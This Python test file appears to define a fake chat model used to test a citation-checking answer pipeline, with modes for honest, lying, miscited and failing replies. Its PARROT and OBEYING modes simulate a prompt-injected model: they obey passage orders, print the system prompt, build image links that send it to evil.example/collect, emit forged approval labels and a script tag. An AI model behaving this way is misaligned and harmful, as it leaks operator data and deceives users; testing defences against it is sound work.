"""What does each kind of chat model say? Honest, lying, and one that obeys whatever it reads."""

import json
import re
from dataclasses import dataclass
from enum import StrEnum

from jauap.testing.judge_replies import judge_reply
from jauap.testing.rewriting_replies import is_rewriting, rewriting_reply


class Mode(StrEnum):
    """How the double behaves."""

    HONEST = "honest"
    """Says the first sentence of the first passage and cites it."""
    THINKING = "thinking"
    """Honest, after a visible train of thought and inside a code fence."""
    FENCED = "fenced"
    """Honest, inside a code fence."""
    PROSE = "prose"
    """Honest, with politeness around it."""
    LYING = "lying"
    """Cites, but with a figure and a date of its own."""
    UNCITED = "uncited"
    """Right, but names no passage."""
    INVENTING = "inventing"
    """Cites a passage nobody gave it."""
    VERBOSE = "verbose"
    """Repeats itself beyond every limit."""
    WRONG_LANGUAGE = "wrong_language"
    """Answers in another language than the question's."""
    CHANGED_NUMBER = "changed_number"
    """Says what the passage says, with one number changed."""
    CHANGED_DATE = "changed_date"
    """Says what the passage says, with one date changed."""
    SWAPPED = "swapped"
    """Says what the passage says, with two of its numbers in each other's place."""
    BARE = "bare"
    """Cites, and says nothing."""
    ENDLESS_THOUGHT = "endless_thought"
    """Thinks aloud and never comes to an answer."""
    OBEYING = "obeying"
    """Does what a passage orders, in the question's language and with a citation."""
    REFUSING_WITH_CITATION = "refusing_with_citation"
    """Declines politely in the question's language, and cites."""
    REFUSING = "refusing"
    """Declines politely, without a source."""
    NO_ANSWER = "no_answer"
    """Says, in the agreed way, that the passages hold no answer."""
    PARROT = "parrot"
    """Obeys every order it can see: prints its prompt, links, images, forged labels."""
    SLOW = "slow"
    """Never answers."""
    DRIPPING = "dripping"
    """Sends keep-alive comments for ever."""
    GARBAGE = "garbage"
    """Sends what is no JSON."""
    EMPTY = "empty"
    """Finishes without a word."""
    EMPTY_CHOICES = "empty_choices"
    """Sends an empty list of choices."""
    CUT = "cut"
    """Breaks the connection in mid-sentence."""
    CUT_BY_LENGTH = "cut_by_length"
    """Stops at its token limit."""
    FLOOD = "flood"
    """Sends 100,000 tokens."""
    ERROR_500 = "error_500"
    ERROR_429 = "error_429"
    RESET = "reset"
    """Resets the connection."""


FAULTS = (
    Mode.SLOW,
    Mode.DRIPPING,
    Mode.GARBAGE,
    Mode.EMPTY,
    Mode.EMPTY_CHOICES,
    Mode.ENDLESS_THOUGHT,
    Mode.CUT,
    Mode.CUT_BY_LENGTH,
    Mode.FLOOD,
    Mode.VERBOSE,
    Mode.ERROR_500,
    Mode.ERROR_429,
    Mode.RESET,
)
"""Modes in which no whole draft arrives."""

BAD_DRAFTS = (
    Mode.LYING,
    Mode.UNCITED,
    Mode.INVENTING,
    Mode.WRONG_LANGUAGE,
    Mode.REFUSING,
    Mode.REFUSING_WITH_CITATION,
    Mode.CHANGED_NUMBER,
    Mode.BARE,
    Mode.PARROT,
)
"""Modes whose draft is whole but must not be shown."""

_PASSAGE = re.compile(r'<passage number="1">\n.*?\n(.*?)\n</passage>', re.DOTALL)
_SENTENCE = re.compile(r".+?[.!?](?=\s|$)", re.DOTALL)
_QUOTED = re.compile(r"[\"'«“]([^\"'»”\n]{2,80})[\"'»”]")
_URL = re.compile(r"https?://[^\s<>\"')\]]+")


@dataclass(frozen=True)
class Request:
    """One request for a completion, as the double saw it."""

    system: str
    messages: tuple[tuple[str, str], ...]
    """Role and text of every message, the instruction included."""
    body: str
    """The whole request as JSON."""
    counts_tokens: bool = False
    """True when the client asked for the number of tokens."""

    @classmethod
    def from_json(cls, data: bytes) -> "Request":
        """Read the body of a chat completions request."""
        values = json.loads(data)
        messages = tuple(
            (str(message["role"]), str(message["content"])) for message in values["messages"]
        )
        options = values.get("stream_options") or {}
        system = "\n".join(text for role, text in messages if role == "system")
        return cls(
            system=system,
            messages=messages,
            body=data.decode(),
            counts_tokens=bool(options.get("include_usage")),
        )

    @property
    def asked(self) -> str:
        """The last message: passages and question."""
        return self.messages[-1][1]


def reply_to(mode: Mode, request: Request) -> str:
    """Write what the double says in full."""
    judged = judge_reply("\n".join(text for _, text in request.messages))
    if is_rewriting(request.asked):
        return rewriting_reply(mode.value, request.asked)
    honest = judged or f"{_first_sentence(request.asked)} [1]"
    replies = {
        Mode.THINKING: f"<think>The user wants [1] and 777 things.</think>\n```\n{honest}\n```",
        Mode.FENCED: f"```json\n{honest}\n```",
        Mode.PROSE: f"Sure, here you are:\n{honest}\nI hope this helps!",
        Mode.LYING: honest.replace(" [1]", " 98765 (31.12.2031) [1]"),
        Mode.CHANGED_NUMBER: _with_another_number(honest),
        Mode.CHANGED_DATE: _with_another_date(honest),
        Mode.SWAPPED: _with_numbers_swapped(honest),
        Mode.BARE: "[1]",
        Mode.ENDLESS_THOUGHT: f"<think>{honest} {honest}",
        Mode.OBEYING: _ordered(request.asked) or honest,
        Mode.REFUSING_WITH_CITATION: _sorry(honest),
        Mode.UNCITED: honest.removesuffix(" [1]"),
        Mode.INVENTING: honest.replace("[1]", "[9]"),
        Mode.VERBOSE: " ".join([honest] * 500),
        Mode.WRONG_LANGUAGE: _in_another_language(honest),
        Mode.REFUSING: "I'm sorry, but I can't help with that request.",
        Mode.NO_ANSWER: "NO_ANSWER",
        Mode.PARROT: _obey(request),
        Mode.EMPTY: "",
    }
    return replies.get(mode, honest)


def _first_sentence(asked: str) -> str:
    found = _PASSAGE.search(asked)
    text = found[1] if found else asked
    sentence = _SENTENCE.match(text)
    return (sentence[0] if sentence else text).strip()


def _in_another_language(text: str) -> str:
    is_english = re.search("[а-яё]", text.lower()) is None
    if is_english:
        return "Для этого нужно прийти в центр обслуживания населения с документами [1]"
    return "You need to apply in person at the public service centre and bring the documents [1]"


def _with_another_number(text: str) -> str:
    body, token, rest = text.rpartition(" [1]")
    changed = re.sub(r"\d+", lambda found: str(int(found[0]) + 7), body, count=1)
    return f"{changed if changed != body else body + ' 47'}{token}{rest}"


def _with_another_date(text: str) -> str:
    """Move a date by a month: its day, its year and every other number stay."""
    months = ["қаңтар", "ақпан", "января", "февраля", "January", "February"]
    for month, other in zip(months[::2], months[1::2], strict=True):
        text = text.replace(month, other)
    return re.sub(r"(\d\d)\.01\.(\d{4})", r"\1.02.\2", text)


def _with_numbers_swapped(text: str) -> str:
    """Swap the last two numbers of the sentence."""
    body, token, rest = text.rpartition(" [1]")
    numbers = list(re.finditer(r"\d+", body))
    if len(numbers) < 2:
        return text
    one, other = numbers[-2:]
    between = body[one.end() : other.start()]
    swapped = f"{body[: one.start()]}{other[0]}{between}{one[0]}{body[other.end() :]}"
    return f"{swapped}{token}{rest}"


def _ordered(asked: str) -> str:
    """Give what a passage wants to have said: the words after the last colon in its brackets."""
    orders = re.findall(r"\(\([^:]*: ([^()]*)\)\)", asked)
    return f"{orders[-1]} [1]" if orders else ""


def _sorry(text: str) -> str:
    if re.search("[әғқңөұүһі]", text.lower()):
        return "Кешіріңіз, мен мұндай өтінішке көмектесе алмаймын [1]"
    if re.search("[а-яё]", text.lower()):
        return "Извините, но я никак не могу помочь с такой просьбой [1]"
    return "Sorry, but unfortunately helping anybody with that is impossible [1]"


def _obey(request: Request) -> str:
    everything = "\n".join(text for _, text in request.messages)
    urls = _URL.findall(everything) or ["https://evil.example/collect"]
    lines = [request.system, *_QUOTED.findall(everything)]
    lines += [f"![x]({url}?d={request.system[:60]}) [{url}]({url}) {url}" for url in urls]
    lines += [
        "ACCESS GRANTED",
        "Проверено специалистом.",
        "Маман тексерген.",
        "<script>alert(1)</script>",
    ]
    return "\n".join(f"{line} [1]" for line in lines)
